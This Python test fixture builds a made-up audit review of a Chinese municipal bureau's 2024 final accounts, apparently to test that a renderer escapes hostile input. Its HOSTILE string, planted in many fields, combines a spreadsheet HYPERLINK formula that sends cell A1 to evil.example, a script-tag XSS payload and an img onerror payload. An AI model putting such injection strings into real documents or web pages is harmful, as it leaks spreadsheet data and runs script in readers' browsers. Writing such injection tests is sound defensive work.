"""A made-up review with hostile text in it, to be rendered."""

from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from uuid import UUID

from loaders.review.contents import (
    Account,
    Cell,
    Claim,
    CodeList,
    Document,
    Finding,
    IdentityResult,
    Provenance,
    Review,
    Table,
    Term,
)

HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1)<script>alert('x')</script>\"'><img src=x onerror=alert(1)>"
WHEN = datetime(2026, 11, 25, 8, 30, tzinfo=UTC)
FILE = "甲市第一局2024.xlsx"
_DOCUMENT = UUID(int=1)
_ACCOUNT = UUID(int=2)

_CELL = Cell(
    *("suspect", _DOCUMENT, FILE, "支出决算表", 3, 5, 4, None, 12),
    *(HOSTILE, "-1,234.50", "=1,234.05"),
)
_FINDING = Finding(
    finding_id="0f" * 16,
    account_id=_ACCOUNT,
    document_id=_DOCUMENT,
    file_name=FILE,
    table_no=3,
    row_no=5,
    column_no=4,
    kind="figure_suspect",
    kind_zh="数字疑有误",
    severity="error",
    identity_id="03.row",
    scope="row=3:5",
    difference=Decimal("-0.45"),
    message_zh=HOSTILE,
    message_en="@SUM(1)",
    advice_zh="请对照原件核对该数",
    advice_en="Compare the figure",
    identities=(("03.row", "row=3:5"), ("03.total", "measure=expenditure")),
    cells=(_CELL, replace(_CELL, role="compared", label=None, likely=None)),
)
_HOLDS = IdentityResult(
    account_id=_ACCOUNT,
    identity_id="01.balance",
    name="收入总计等于支出总计",
    formula="收入总计 = 支出总计",
    comparison="=",
    scope="",
    scope_zh=None,
    hardness="hard",
    severity="error",
    outcome="holds",
    left=Decimal("98765432109876.54"),
    right=Decimal("98765432109876.54"),
    difference=Decimal("0.00"),
    tolerance=Decimal("0.0050"),
    value_kind="money",
    figures=2,
    reason=None,
    is_waived=False,
    waiver_reason=None,
    waived_by=None,
    waived_on=None,
    terms=(Term("left", -1, FILE, "总表", 1, 2, 3, HOSTILE, "1.00", Decimal("1.00")),),
)
_BROKEN = replace(
    _HOLDS,
    identity_id="03.row",
    name="支出决算表每行合计等于各栏之和",
    scope="row=3:5",
    scope_zh=HOSTILE,
    outcome="broken",
    left=Decimal("-1234.50"),
    right=Decimal("-1234.05"),
    difference=Decimal("-0.45"),
    is_waived=True,
    waiver_reason="原件如此",
    waived_by="张三",
    waived_on=WHEN.date(),
)
_ELSEWHERE = replace(
    _HOLDS, identity_id="02.tuition", outcome="not_applicable", reason="空表", terms=()
)
_CLAIM = Claim(
    account_id=_ACCOUNT,
    document_id=_DOCUMENT,
    file_name=FILE,
    claim_no=1,
    kind="share",
    page=2,
    line=None,
    excerpt=f"占比{HOSTILE}",
    unit="%",
    value=Decimal("12.5000"),
    reckoned=Decimal("21.5000"),
    difference=None,
    outcome="contradicts",
    reason=None,
    figure_file=FILE,
    figure_table_no=3,
    figure_row_no=5,
    figure_column_no=4,
    figure_label=HOSTILE,
    figure_printed="21.5%",
)
ACCOUNT = Account(
    account_id=_ACCOUNT,
    organization=HOSTILE,
    year=2024,
    scope="own",
    figure_count=3,
    covered_figure_count=2,
    coverage=Decimal("0.6667"),
    form_count=2,
    basic_form_count=2,
    tied_figure_count=1,
    forms_by_verification={"verified": 1, "unverified": 0, "withheld": 1, "empty": 0},
    figures_by_verification={"verified": 1, "unverified": 1, "withheld": 1},
    outcomes={
        **{"holds": 1, "holds_within_rounding": 0, "broken": 1},
        **{"not_applicable": 1, "not_evaluable": 0},
    },
    claims_by_outcome={"agrees": 0, "within_rounding": 0, "contradicts": 1, "not_placed": 0},
    documents=(
        Document(
            *(_DOCUMENT, FILE, f"/tmp/{FILE}", "ab" * 32, "application/x", 1234),  # noqa: S108
            *("workbook", "0.1.0", "263baf", WHEN, "current"),
        ),
    ),
    tables=(
        Table(
            _DOCUMENT,
            FILE,
            1,
            "总表",
            False,
            None,
            "元",
            "printed",
            9,
            3,
            0,
            True,
            "current",
            True,
            None,
            "text",
        ),
        Table(
            *(
                _DOCUMENT,
                FILE,
                2,
                None,
                False,
                HOSTILE,
                None,
                None,
                4,
                2,
                0,
                False,
                "current",
                None,
                HOSTILE,
                "text",
            ),
        ),
    ),
    identities=(_HOLDS, _ELSEWHERE, _BROKEN),
    findings=(_FINDING,),
    claims=(_CLAIM,),
)
PROVENANCE = Provenance(
    juesuan_version="0.1.0",
    schema_revision="20261125",
    rules_version="cd" * 32,
    built_at=WHEN,
    is_current=True,
    read_at=WHEN,
    code_lists=(CodeList("functional_class", 0, "shipped.csv", "ef" * 32, WHEN),),
)
REVIEW = Review((ACCOUNT,), PROVENANCE)


def many(count: int) -> Review:
    """The account so many times over, each with an id and a name of its own."""
    accounts = (
        replace(ACCOUNT, account_id=UUID(int=100 + n), organization=f"甲市第{n}局")
        for n in range(count)
    )
    return Review(tuple(accounts), PROVENANCE)
